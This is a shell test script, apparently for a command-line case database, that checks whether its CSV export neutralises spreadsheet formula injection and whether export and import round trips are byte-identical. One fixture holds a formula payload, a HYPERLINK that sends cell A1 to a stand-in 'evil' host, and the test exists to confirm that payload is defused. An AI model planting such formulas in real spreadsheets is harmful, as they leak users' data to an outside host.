#!/bin/sh
# CSV a spreadsheet can open safely: a cell that would run as a formula
# (first character = + - @, tab or CR) is exported with a leading
# apostrophe, a cell starting with an apostrophe gets one more, import
# drops exactly one, so export -> import -> export is byte-identical.
# --raw exports (and imports) the values as they are, for programs.
. "$(dirname "$0")/../lib.sh"

cb add 'name==HYPERLINK("http://evil/?"&A1,"click")' city=Almaty
cb add name=+7 'notes=+1 (plus)' city=Almaty
cb add name=-Minus 'notes=-2+3' city=@Almaty
cb add name=@Handle "notes=@tabbed" city=Almaty
cb add "name='Quoted" "notes=''twice" city=Almaty
cb add name=Plain "notes=Plain notes" city=Almaty
cb add name=Ordinary "notes=nothing to see = here" "city=Алматы"
cb list --count
same "seven cases added" "$out" 7

cb export -o "$T/safe.csv"
same "export: exit 0" "$rc" 0
safe=$(cat "$T/safe.csv")
contains "a formula cell gets an apostrophe" "$safe" "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"click\"\")\""
contains "a + cell gets an apostrophe" "$safe" ",'+7,"
contains "a - cell gets an apostrophe" "$safe" ",'-Minus,"
contains "an @ cell gets an apostrophe" "$safe" ",'@Handle,"
contains "a city starting with @ gets one too" "$safe" ",'@Almaty,"

contains "a cell starting with an apostrophe gets one more" "$safe" ",''Quoted,"
contains "two apostrophes become three" "$safe" ",'''twice,"
contains "an ordinary cell is left alone" "$safe" ",nothing to see = here,"
# No cell, quoted or not, starts with a formula character.
bad=$(printf '%s\n' "$safe" | grep -E '(^|,)"?[-=+@]' | head -3)
same "no cell starts with = + - @" "$bad" ""

cb list --format csv
contains "list --format csv is neutralised too" "$out" ",'+7,"

# Importing the export changes nothing (every row is unchanged), and the
# next export is byte-identical.
cb import "$T/safe.csv"
same "import of the export: exit 0" "$rc" 0
contains "import of the export: every row unchanged" "$out" "7 unchanged"
cb show 5
contains "the leading apostrophe of a value is kept" "$out" "'Quoted"
lacks "and not doubled" "$out" "''Quoted"
cb export -o "$T/again.csv"
check "export -> import -> export is byte-identical" cmp -s "$T/safe.csv" "$T/again.csv"

# Into a new database too (the columns a user sets).
cb export --no-meta -o "$T/nometa.csv"
"$CASEBOOK" -d "$T/db2" import "$T/nometa.csv" >/dev/null 2>&1
"$CASEBOOK" -d "$T/db2" export --no-meta -o "$T/nometa2.csv" 2>/dev/null
check "round trip through a new database is byte-identical" cmp -s "$T/nometa.csv" "$T/nometa2.csv"
out=$("$CASEBOOK" -d "$T/db2" show 1 2>&1)
contains "the formula arrives as it was typed" "$out" '=HYPERLINK("http://evil/?"&A1,"click")'
lacks "without the apostrophe" "$out" "'=HYPERLINK"

# --raw: exact values for programs, and import --raw reads them back.
cb export --raw -o "$T/raw.csv"
raw=$(cat "$T/raw.csv")
contains "--raw: the formula is exported as it is" "$raw" '"=HYPERLINK('
contains "--raw: an apostrophe is not doubled" "$raw" ",'Quoted,"
"$CASEBOOK" -d "$T/db3" import --raw "$T/raw.csv" --ignore id,rev >/dev/null 2>&1
"$CASEBOOK" -d "$T/db3" export --raw --no-meta -o "$T/raw3.csv" 2>/dev/null
cb export --raw --no-meta -o "$T/raw1.csv"
check "export --raw -> import --raw -> export --raw is byte-identical" cmp -s "$T/raw1.csv" "$T/raw3.csv"
out=$("$CASEBOOK" -d "$T/db3" show 5 2>&1)
contains "import --raw keeps a leading apostrophe" "$out" "'Quoted"

# JSON is for programs: values exactly as stored.
cb export --format json
contains "JSON export is not neutralised" "$out" '"=HYPERLINK('
